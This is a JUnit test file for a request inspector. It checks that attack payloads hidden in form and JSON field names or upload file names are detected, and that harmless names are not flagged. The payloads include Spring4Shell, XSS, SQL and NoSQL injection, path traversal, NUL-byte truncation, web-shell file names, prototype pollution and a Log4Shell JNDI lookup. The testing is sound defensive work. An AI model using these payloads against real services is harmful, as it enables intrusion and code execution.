package dev.sluice.inspector;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.sluice.inspector.redact.RedactionPlan;
import dev.sluice.matchers.Direction;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Field and member names read as values in a request that is not rewritten: the ones that could
 * carry an attack, under the path {@code (name)}, and an upload's file name under
 * {@code (filename)}; never in a response, never when rewriting, never an identifier.
 */
class NamesAsValuesTest {
    private static final Inspector inspector = BuiltinEngine.inspector();

    private static List<String> found(Direction direction, String contentType, String body) {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        try (InspectionSession s = inspector.open(direction, contentType, null)) {
            for (int i = 0; i < bytes.length; i++) {
                s.feed(bytes, i, 1); // any chunking: one byte at a time here
            }
            return s.finish().findings().stream().map(f -> f.id() + "@" + f.path() + "@" + f.start())
                    .collect(Collectors.toList());
        }
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', value = {
        "application/x-www-form-urlencoded|class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&a=1|attack.rce@(name)@0",
        "application/x-www-form-urlencoded|a=1&%3Cscript%3Ealert(1)%3C%2Fscript%3E=x|attack.xss@(name)@4",
        "application/json|{\"a\":{\"<img src=x onerror=alert(1)>\":1}}|attack.xss@(name)@7",
        "application/json|{\"n\\u0027 OR \\u00271\\u0027=\\u00271\":2}|attack.sqli@(name)@2",
    })
    void aNameThatCarriesAnAttackIsFoundWhereItSits(String contentType, String body, String expected) {
        assertEquals(List.of(expected), found(Direction.REQUEST, contentType, body));
    }

    private static String upload(String fileName) {
        return "--zz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                + "\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--zz--\r\n";
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "../../../../etc/cron.d/evil|attack.lfi@(filename)@6",
        "<img src=x onerror=alert(1)>.png|attack.xss@(filename)@6",
        "..\\..\\windows\\win.ini|attack.lfi@(filename)@6",
        "${jndi:ldap://x.example/a}.txt|attack.log4shell@(filename)@6",
        "shell.php%00.jpg|attack.lfi@(filename)@6",
        "something/dangerous.php|attack.rce@(filename)@6",
        "shell.PHTML|attack.rce@(filename)@6",
        "fda.php5.....|attack.rce@(filename)@6",
        "cmd.aspx |attack.rce@(filename)@6",
        "browser.jsp|attack.rce@(filename)@6",
        "../1.7z|attack.lfi@(filename)@6",
        "..\\1.7z|attack.lfi@(filename)@6",
    })
    void anUploadsFileNameIsReadAsTheHandlerReadsIt(String fileName, String expected) {
        assertEquals(List.of(expected), found(Direction.REQUEST, "multipart/form-data; boundary=zz", upload(fileName)));
    }

    /**
     * A NUL that cuts a file name after its extension, as the handler reads the value (decoded):
     * at the value's very end (where the value separator follows it in the matchers' stream) or
     * before another extension; a NUL elsewhere, or an extension that only ends its value, is
     * nothing.
     */
    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', value = {
        "application/x-www-form-urlencoded|page=..%2Fpage.php%00|attack.lfi@page@5",
        "application/x-www-form-urlencoded|a=1&page=page.php%00|attack.lfi@page@9",
        "application/x-www-form-urlencoded|f=shell.php%00.jpg&b=2|attack.lfi@f@2",
        "application/json|{\"file\":\"page.php\\u0000\",\"b\":\"x.com\"}|attack.lfi@$.file@9",
        "application/json|{\"a\":\"mail.example.com\",\"file\":\"shell.php\\u0000.png\"}|attack.lfi@$.file@32",
        "application/x-www-form-urlencoded|email=ann%40mail.example.com&n=1.33|",
        "application/x-www-form-urlencoded|a=x%00y&b=.com|",
        "application/json|{\"a\":\"report.pdf\",\"b\":\"\",\"c\":\".jpg\"}|",
    })
    void aNulThatCutsAnExtensionIsFoundWhereTheValueEnds(String contentType, String body, String expected) {
        assertEquals(expected == null ? List.of() : List.of(expected), found(Direction.REQUEST, contentType, body));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "report (1).pdf", "C:\\fakepath\\photo.jpg", "résumé.docx", "q3 report & plan.pdf",
        "draft-v2 (final) [approved].docx", "IMG_20240101_123456.jpg", "100%00 sure.txt", "archive.tar.gz",
        "index.php.txt", "shell.php.jpg", "php", ".php", "php.ini.sample", "a..b.txt", "..hidden",
    })
    void everydayFileNamesReportNothing(String fileName) {
        assertEquals(List.of(), found(Direction.REQUEST, "multipart/form-data; boundary=zz", upload(fileName)));
    }

    /** Input a service merges into a query or an object: the attack is the name's place, not a value. */
    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', value = {
        "application/json|{\"username\":\"admin\",\"password\":{\"$ne\":null}}|attack.nosqli@(name)@33",
        "application/json|{\"email\":{\"$regex\":\".*\"}}|attack.nosqli@(name)@11",
        "application/x-www-form-urlencoded|username=admin&password[$ne]=x|attack.nosqli@(name)@15",
        "application/json|{\"__proto__\":{\"isAdmin\":true}}|attack.proto_pollution@(name)@2",
        "application/json|{\"user\":{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}}|attack.proto_pollution@(name)@25",
        "application/x-www-form-urlencoded|__proto__[isAdmin]=1|attack.proto_pollution@(name)@0",
        "application/x-www-form-urlencoded|constructor[prototype][isAdmin]=1|attack.proto_pollution@(name)@0",
        "application/x-www-form-urlencoded|__proto__.isAdmin=1|attack.proto_pollution@(name)@0",
        "application/x-www-form-urlencoded|a=1&constructor.prototype.isAdmin=1|attack.proto_pollution@(name)@4",
    })
    void aNameAQueryOrAMergeBindsIsFound(String contentType, String body, String expected) {
        assertEquals(List.of(expected), found(Direction.REQUEST, contentType, body));
    }

    @Test
    void everydayDollarAndPrototypeNamesReportNothing() {
        assertEquals(List.of(), found(Direction.REQUEST, "application/json",
                "{\"$schema\":\"https://json-schema.org/draft/2020-12/schema\",\"$id\":\"x\",\"$ref\":\"#/a\","
                        + "\"$type\":\"Shop.Order, Shop\",\"_id\":{\"$oid\":\"5f1d7e0a\"},\"prototype\":{\"name\":\"v2\"},"
                        + "\"constructor\":{\"name\":\"Red Bull\"},\"price\":\"$5 or $6\"}"));
    }

    @Test
    void aResponsesNamesAreItsServicesOwnAndNotRead() {
        assertEquals(List.of(), found(Direction.RESPONSE, "application/json", "{\"1 UNION SELECT a FROM b--\":1}"));
        assertEquals(List.of(), found(Direction.RESPONSE, "multipart/form-data; boundary=zz",
                upload("../../../../etc/passwd")));
    }

    @Test
    void identifiersAreNotReadAsValues() {
        assertEquals(List.of(), found(Direction.REQUEST, "application/json",
                "{\"user_id\":1,\"@type\":\"x\",\"a.b-c:d\":2,\"union\":3,\"select\":4}"));
        assertEquals(List.of(), found(Direction.REQUEST, "application/x-www-form-urlencoded",
                "prototype.name=v2&constructor.name=Red+Bull&prototypes=3"));
    }

    @Test
    void aRewritingSessionReadsNoNameAndLeavesItAsItCame() {
        String body = "{\"<img src=x onerror=alert(1)>\":1}";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (InspectionSession s = inspector.openRewriting(BodySpec.builder(Direction.REQUEST)
                .contentType("application/json").build(), RedactionPlan.NONE, out::write)) {
            s.feed(body.getBytes(StandardCharsets.UTF_8), 0, body.length());
            assertEquals(List.of(), s.finish().findings());
        }
        assertEquals(body, out.toString(StandardCharsets.UTF_8));
    }
}
